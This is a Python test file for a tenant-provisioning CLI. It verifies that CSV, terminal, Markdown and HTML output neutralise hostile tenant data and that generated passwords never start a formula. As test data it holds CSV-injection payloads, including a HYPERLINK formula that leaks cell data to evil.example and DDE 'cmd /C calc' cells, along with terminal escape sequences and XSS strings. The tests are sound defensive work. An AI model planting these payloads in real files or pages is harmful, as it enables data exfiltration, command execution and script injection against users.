"""Output cannot be turned against its reader: CSV cells a spreadsheet would run as formulas are
written as text, terminal tables drop control characters that come from tenant data, Markdown and
HTML show markup instead of running it, JSON stays exact, and no generated password starts a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

from cli_tenant import DOMAIN, Tenant

from provisioner.audit import audit, render
from provisioner.changes import Action, Change, Plan
from provisioner.journal import CsvResults, Outcome
from provisioner.model import RoleAssignment, RoleDefinition, TenantState, User
from provisioner.passwords import generate
from provisioner.render import render_markdown, render_text

BILLING = "b0f54661-2d74-4c50-afa3-1ec803f12efe"
# What a display name in a tenant can hold (Graph takes any text): formulas and terminal escapes.
FORMULAS = {
    "f1": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "f2": "+cmd|' /C calc'!A0",
    "f3": "-2+3+cmd|' /C notepad'!A0",
    "f4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "f5": "\t=1+1",
    "f6": "\r=1+1",
    "f7": "Plain - Name",
}
ESCAPES = "\x1b]0;pwned\x07Eve\x1b[2J\x9b31mRed\x85"


def _user(tenant: Tenant, alias: str, name: str, **extra: str) -> str:
    body = {"accountEnabled": True, "displayName": name, "mailNickname": alias,
            "userPrincipalName": f"{alias}@{DOMAIN}",
            "passwordProfile": {"forceChangePasswordNextSignIn": True, "password": "xWwvJ]6NMw+bWH-d"}, **extra}
    return tenant.graph("POST", "/users", body)["id"]


def _created(tenant: Tenant) -> dict[str, str]:
    return {u["userPrincipalName"]: u["createdDateTime"] for u in tenant.json("users", "list")}


# --- CSV: formulas are text ------------------------------------------------------------------------


def test_users_list_csv_writes_formula_cells_as_text_and_json_exactly(tenant: Tenant) -> None:
    for alias, name in FORMULAS.items():
        _user(tenant, alias, name, jobTitle="=1+1")
    created = _created(tenant)
    out = tenant.ok("users", "list", "-o", "csv").stdout
    quoted = {
        "f1": '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"',
        "f2": "'+cmd|' /C calc'!A0",
        "f3": "'-2+3+cmd|' /C notepad'!A0",
        "f4": "'@SUM(1+1)*cmd|' /C calc'!A0",
        "f5": "'\t=1+1",
        "f6": "\"'\r=1+1\"",  # quoted: a bare CR would start a new row
        "f7": "Plain - Name",
    }
    lines = out.split("\n")
    for alias in FORMULAS:  # the raw cells, as a spreadsheet receives them
        assert any(f"{alias}@{DOMAIN},{quoted[alias]},true," in line for line in lines), alias
    assert created
    # A spreadsheet reading it back sees every cell as text that starts with the quote.
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [r["displayName"] for r in rows[1:]] == [
        ("'" + v if v[0] in "=+-@\t\r" else v) for v in FORMULAS.values()
    ]
    # JSON keeps the data exactly as the tenant holds it.
    names = {u["userPrincipalName"]: u["displayName"] for u in tenant.json("users", "list")}
    assert {a: names[f"{a}@{DOMAIN}"] for a in FORMULAS} == FORMULAS


def test_deleted_list_and_roles_members_csv_write_formulas_as_text(tenant: Tenant) -> None:
    gone = _user(tenant, "gone", "=HYPERLINK(\"http://evil.example\")")
    holder = _user(tenant, "holder", "@SUM(A1:A9)")
    tenant.graph("POST", "/roleManagement/directory/roleAssignments",
           {"principalId": holder, "roleDefinitionId": BILLING, "directoryScopeId": "/"})
    tenant.graph("DELETE", f"/users/{gone}")
    deleted = tenant.ok("deleted", "list", "-o", "csv").stdout.splitlines()
    assert f'gone@{DOMAIN},"\'=HYPERLINK(""http://evil.example"")",' in deleted[1]
    members = list(csv.DictReader(io.StringIO(tenant.ok("roles", "members", "billing", "-o", "csv").stdout)))
    assert [(m["userPrincipalName"], m["displayName"], m["accountEnabled"], m["id"]) for m in members] == [
        (f"holder@{DOMAIN}", "'@SUM(A1:A9)", "true", holder)]


def test_results_csv_writes_formula_cells_as_text() -> None:
    buf = io.StringIO()
    sink = CsvResults(buf)
    change = Change(Action.DELETE, f"-x@{DOMAIN}", object_id="id-1", reason="")
    sink.write(Outcome(change, "failed", 400, "Request_BadRequest", "=cmd|' /C calc'!A0 is not valid", "rid-1"))
    sink.write(Outcome(change, "ok", 204, None, None, "rid-2"))
    assert buf.getvalue() == (
        "action,userPrincipalName,objectId,roleName,status,httpStatus,code,message,requestId\r\n"
        f"delete,'-x@{DOMAIN},id-1,,failed,400,Request_BadRequest,'=cmd|' /C calc'!A0 is not valid,rid-1\r\n"
        f"delete,'-x@{DOMAIN},id-1,,ok,204,,,rid-2\r\n"
    )


# --- terminal: control characters from the tenant are dropped ----------------------------------


def test_users_list_and_show_tables_drop_escape_sequences_but_json_keeps_them(tenant: Tenant) -> None:
    _user(tenant, "eve", ESCAPES, jobTitle="Ops\nLead\tNight")
    created = _created(tenant)
    table = tenant.ok("users", "list").stdout
    assert "\x1b" not in table and "\x07" not in table and "\x9b" not in table and "\x85" not in table
    eve = f"eve@{DOMAIN}"
    assert table.splitlines()[3] == f"{eve}    ]0;pwnedEve[2J31mRed  yes                  Ops Lead Night" \
                                    f"                {created[eve]}"
    show = tenant.ok("users", "show", eve).stdout
    assert show.splitlines()[:6] == [
        f"UPN         {eve}",
        "Name        ]0;pwnedEve[2J31mRed",
        "Enabled     yes",
        "Synced",
        "Job title   Ops Lead Night",
        "Department",
    ]
    assert tenant.json("users", "show", eve)["displayName"] == ESCAPES


def _plan() -> Plan:
    return Plan((
        Change(Action.UPDATE, f"eve@{DOMAIN}", object_id="id-eve",
               updates={"displayName": (ESCAPES, "Eve"), "jobTitle": ("<script>alert(1)</script>", "Ops")},
               reason="differs from the manifest\x1b[2J"),
        Change(Action.ASSIGN, f"eve@{DOMAIN}", object_id="id-eve", role_id="r1",
               role_name="Custom\x1b]0;x\x07 <img src=x onerror=alert(1)>", reason="in the manifest"),
    ))


def test_plan_text_drops_control_characters_from_names_and_values() -> None:
    plan = _plan()
    assert render_text(plan) == "\n".join([
        "Changes are marked: + assign role; ~ update",
        "",
        f"  # user eve@{DOMAIN} will be updated in-place (differs from the manifest[2J)",
        f"  ~ user eve@{DOMAIN} (id-eve)",
        '      ~ displayName = "\\u001b]0;pwned\\u0007Eve\\u001b[2J31mRed" -> "Eve"',
        '      ~ jobTitle    = "<script>alert(1)</script>" -> "Ops"',
        "",
        f"  # role Custom]0;x <img src=x onerror=alert(1)> will be assigned to eve@{DOMAIN} (in the manifest)",
        f"  + role Custom]0;x <img src=x onerror=alert(1)> -> eve@{DOMAIN}",
        "",
        "Plan: 1 to update, 1 role assignment to add.",
    ])


def test_plan_markdown_escapes_html_and_control_characters() -> None:
    plan = _plan()
    lines = render_markdown(plan).splitlines()
    assert lines[6] == (f"| `eve@{DOMAIN}` | displayName: ]0;pwnedEve[2J31mRed → Eve<br>jobTitle: "
                        "&lt;script&gt;alert(1)&lt;/script&gt; → Ops | differs from the manifest[2J |")
    assert lines[-1] == f"| `eve@{DOMAIN}` | Custom]0;x &lt;img src=x onerror=alert(1)&gt; | in the manifest |"


# --- the audit: table, Markdown, HTML ---------------------------------------------------------------

GLOBAL = "62e90394-69f5-4237-9190-012177145e10"
WHEN = datetime(2025, 6, 1, 12, tzinfo=UTC)
EVIL = "<script>alert(1)</script>\x1b]0;owned\x07\x1b[2J"


def _report():  # type: ignore[no-untyped-def]
    def user(uid: str, name: str) -> User:
        return User(id=uid, user_principal_name=f"{uid}@{DOMAIN}", display_name=name, account_enabled=True,
                    created=datetime(2025, 1, 1, tzinfo=UTC))

    people = [user("a1", "Admin One"), user("a2", "Admin Two"), user("evil", EVIL)]
    state = TenantState(
        now=WHEN, users={u.user_principal_name: u for u in people},
        roles=[RoleDefinition(GLOBAL, "Global Administrator", GLOBAL),
               RoleDefinition(BILLING, "Billing Administrator", BILLING)],
        assignments=[RoleAssignment("x1", "a1", GLOBAL), RoleAssignment("x2", "a2", GLOBAL),
                     RoleAssignment("x3", "evil", BILLING)])
    return audit(state, protected=(), expiring_within=timedelta(days=7), all_roles=False, tenant="prod\x1b]0;x\x07")


def test_audit_table_drops_control_characters() -> None:
    table = render(_report(), "table")
    assert "\x1b" not in table and "\x07" not in table
    assert table.splitlines()[0] == "Audit of prod]0;x at 2025-06-01T12:00:00Z"
    row = next(line for line in table.splitlines() if line.startswith("Billing Administrator"))
    assert row.split("  ")[0:3] == ["Billing Administrator", f"evil@{DOMAIN}", "<script>alert(1)</script>]0;owned[2J"]


def test_audit_markdown_escapes_html_and_html_page_stays_escaped() -> None:
    md = render(_report(), "markdown")
    assert "<script>" not in md and "\x1b" not in md
    assert md.splitlines()[0] == "## Audit of prod]0;x"
    assert (f"| Billing Administrator | evil@{DOMAIN} | &lt;script&gt;alert(1)&lt;/script&gt;]0;owned[2J "
            "| active permanent | yes | cloud-only | 2025-01-01 |") in md.splitlines()
    page = render(_report(), "html")
    assert "<script>" not in page
    assert "<td>&lt;script&gt;alert(1)&lt;/script&gt;\x1b]0;owned\x07\x1b[2J</td>" in page
    assert json.loads(render(_report(), "json"))["holders"][2]["displayName"] == (
        "<script>alert(1)</script>\x1b]0;owned\x07\x1b[2J")


# --- passwords --------------------------------------------------------------------------------------


def test_generated_passwords_never_start_a_spreadsheet_formula() -> None:
    firsts = [generate()[0] for _ in range(20_000)]
    assert not set(firsts) & set("=+-@")
    # The first character still varies over letters, digits and the other symbols.
    assert len(set(firsts)) > 60 and set(firsts) & set("#%^*_!")


def test_password_file_rows_never_start_a_formula(tenant: Tenant, tmp_path: Path) -> None:
    rows = "".join(f"p{i}@{DOMAIN},P {i}\n" for i in range(40))
    (tmp_path / "in.csv").write_text("userPrincipalName,displayName\n" + rows, encoding="utf-8")
    tenant.ok("users", "create", "--from", str(tmp_path / "in.csv"), "--yes", "--password-out",
              str(tmp_path / "pw.csv"))
    lines = (tmp_path / "pw.csv").read_text(encoding="utf-8").splitlines()
    passwords = [line.split(",")[1] for line in lines[1:]]
    assert len(passwords) == 80 and all(p[0] not in "=+-@" for p in passwords)
